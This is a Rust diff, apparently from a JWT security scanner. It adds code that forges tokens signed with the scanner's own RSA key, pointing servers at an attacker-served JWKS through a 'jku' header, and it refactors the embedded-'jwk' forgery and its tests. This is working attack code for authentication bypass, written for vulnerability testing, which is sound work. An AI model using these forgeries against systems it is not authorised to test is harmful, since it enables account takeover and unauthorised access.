@@ -1,5 +1,5 @@
 //! Forging JWTs for attacks: unsigned (`alg: none`), re-signed with a known or guessed HMAC
-//! key, signed with the scanner's own RSA key (for embedded-`jwk` trust), or carrying an
+//! key, signed with the scanner's own RSA key (for embedded-`jwk` and `jku` trust), or carrying an
 //! arbitrary signature (tampered, stripped, ECDSA r = s = 0).
 
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
@@ -15,7 +15,7 @@ use sha2::{Sha256, Sha384, Sha512};
 use std::sync::LazyLock;
 
 /// The scanner's own RSA key: public knowledge, used only to sign tokens that a server
-/// should never accept (embedded `jwk` headers). Never a secret of any target.
+/// should never accept (embedded `jwk` and `jku` headers). Never a secret of any target.
 const ATTACKER_KEY_PEM: &str = include_str!("../keys/attacker-rsa.pem");
 
 static ATTACKER_KEY: LazyLock<RsaPrivateKey> =
@@ -95,27 +95,62 @@ pub fn hmac_bytes(alg: HmacAlg, key: &[u8], message: &[u8]) -> Vec<u8> {
     }
 }
 
+/// The `kid` of the scanner's RSA key in forged headers and in [`attacker_jwks`].
+pub const ATTACKER_KID: &str = "authprobe-attacker";
+
+/// The public half of the scanner's RSA key as a JWK (`kid` [`ATTACKER_KID`]).
+pub fn attacker_jwk() -> Value {
+    let public = RsaPublicKey::from(&*ATTACKER_KEY);
+    json!({
+        "kty": "RSA",
+        "kid": ATTACKER_KID,
+        "use": "sig",
+        "alg": "RS256",
+        "n": URL_SAFE_NO_PAD.encode(public.n().to_bytes_be()),
+        "e": URL_SAFE_NO_PAD.encode(public.e().to_bytes_be()),
+    })
+}
+
+/// A JWKS holding only the scanner's public key: what a `jku` forgery's URL serves.
+pub fn attacker_jwks() -> Value {
+    json!({ "keys": [attacker_jwk()] })
+}
+
+/// `header` (with `alg` RS256 and `kid` [`ATTACKER_KID`]) and `claims`, signed with the
+/// scanner's key (PKCS#1 v1.5, SHA-256).
+fn sign_rs256_as_attacker(mut header: Map<String, Value>, claims: &Map<String, Value>) -> String {
+    header.insert("alg".into(), Value::String("RS256".into()));
+    header.insert("kid".into(), Value::String(ATTACKER_KID.into()));
+    let input = format!("{}.{}", segment(&header), segment(claims));
+    let signature = SigningKey::<Sha256>::new(ATTACKER_KEY.clone())
+        .sign(input.as_bytes())
+        .to_vec();
+    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
+}
+
 /// An RS256 token signed with the scanner's key, its public half embedded as a `jwk`
 /// header: a server that trusts embedded keys accepts it.
 pub fn sign_with_embedded_jwk(header: &Map<String, Value>, claims: &Map<String, Value>) -> String {
-    let key = &*ATTACKER_KEY;
-    let public = RsaPublicKey::from(key);
+    let mut jwk = attacker_jwk();
+    if let Some(jwk) = jwk.as_object_mut() {
+        jwk.remove("alg");
+    }
     let mut header = header.clone();
-    header.insert("alg".into(), Value::String("RS256".into()));
-    header.insert("kid".into(), Value::String("authprobe-attacker".into()));
-    header.insert(
-        "jwk".into(),
-        json!({
-            "kty": "RSA",
-            "kid": "authprobe-attacker",
-            "use": "sig",
-            "n": URL_SAFE_NO_PAD.encode(public.n().to_bytes_be()),
-            "e": URL_SAFE_NO_PAD.encode(public.e().to_bytes_be()),
-        }),
-    );
-    let input = format!("{}.{}", segment(&header), segment(claims));
-    let signature = SigningKey::<Sha256>::new(key.clone()).sign(input.as_bytes()).to_vec();
-    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
+    header.insert("jwk".into(), jwk);
+    sign_rs256_as_attacker(header, claims)
+}
+
+/// An RS256 token signed with the scanner's key whose header points at `jku_url` for its
+/// key (`kid` [`ATTACKER_KID`]): a server that fetches keys from the token's `jku` and is
+/// served [`attacker_jwks`] there accepts it. Any `jwk`/`x5u` of `header` is dropped, so
+/// only the `jku` can vouch for the key.
+pub fn sign_with_jku(header: &Map<String, Value>, claims: &Map<String, Value>, jku_url: &str) -> String {
+    let mut header = header.clone();
+    header.remove("jwk");
+    header.remove("x5u");
+    header.remove("x5c");
+    header.insert("jku".into(), Value::String(jku_url.into()));
+    sign_rs256_as_attacker(header, claims)
 }
 
 /// The PEM encodings a server might use as the "secret" when it mistakenly verifies an
@@ -195,12 +230,18 @@ mod tests {
 
     #[test]
     fn embedded_jwk_tokens_verify_with_their_own_key() {
-        use rsa::pkcs1v15::VerifyingKey;
-        use rsa::signature::Verifier;
         let (h, c) = parts();
         let token = sign_with_embedded_jwk(&h, &c);
         let jwt = Jwt::parse(&token).unwrap();
-        let jwk = jwt.header["jwk"].as_object().unwrap();
+        assert_eq!(jwt.header["kid"], json!(ATTACKER_KID));
+        verify_with_jwk(&token, jwt.header["jwk"].as_object().unwrap());
+    }
+
+    /// Verifies `token`'s RS256 signature with the JWK `jwk`.
+    fn verify_with_jwk(token: &str, jwk: &Map<String, Value>) {
+        use rsa::pkcs1v15::VerifyingKey;
+        use rsa::signature::Verifier;
+        let jwt = Jwt::parse(token).unwrap();
         let n = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap());
         let e = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(jwk["e"].as_str().unwrap()).unwrap());
         let key = VerifyingKey::<Sha256>::new(RsaPublicKey::new(n, e).unwrap());
@@ -208,6 +249,43 @@ mod tests {
             rsa::pkcs1v15::Signature::try_from(URL_SAFE_NO_PAD.decode(&jwt.raw_signature).unwrap().as_slice()).unwrap();
         key.verify(format!("{}.{}", jwt.raw_header, jwt.raw_claims).as_bytes(), &sig)
             .unwrap();
+    }
+
+    #[test]
+    fn jku_tokens_name_the_url_and_verify_with_the_served_jwks() {
+        let (mut h, c) = parts();
+        h.insert("jwk".into(), json!({"kty": "RSA"}));
+        let url = "http://127.0.0.1:4567/jwks.json";
+        let token = sign_with_jku(&h, &c, url);
+        let jwt = Jwt::parse(&token).unwrap();
+        assert_eq!(jwt.alg(), Some("RS256"));
+        assert_eq!(jwt.header["jku"], json!(url));
+        assert_eq!(jwt.header["kid"], json!(ATTACKER_KID));
+        assert_eq!(jwt.header["typ"], json!("JWT"));
+        assert!(!jwt.header.contains_key("jwk"), "only the jku may vouch for the key");
+        assert_eq!(jwt.claims, c);
+        // The served JWKS holds exactly one key, found by the header's kid, and it verifies.
+        let jwks = attacker_jwks();
+        let keys = jwks["keys"].as_array().unwrap();
+        assert_eq!(keys.len(), 1);
+        let jwk = keys
+            .iter()
+            .find(|k| k["kid"] == jwt.header["kid"])
+            .unwrap()
+            .as_object()
+            .unwrap();
+        assert_eq!(jwk["kty"], json!("RSA"));
+        assert!(!jwk.contains_key("d"), "the JWKS must not publish the private exponent");
+        verify_with_jwk(&token, jwk);
+    }
+
+    #[test]
+    fn the_attacker_jwks_is_the_embedded_key() {
+        let (h, c) = parts();
+        let jwt = Jwt::parse(&sign_with_embedded_jwk(&h, &c)).unwrap();
+        let served = &attacker_jwks()["keys"][0];
+        assert_eq!(jwt.header["jwk"]["n"], served["n"]);
+        assert_eq!(jwt.header["jwk"]["e"], served["e"]);
     }
 
     #[test]
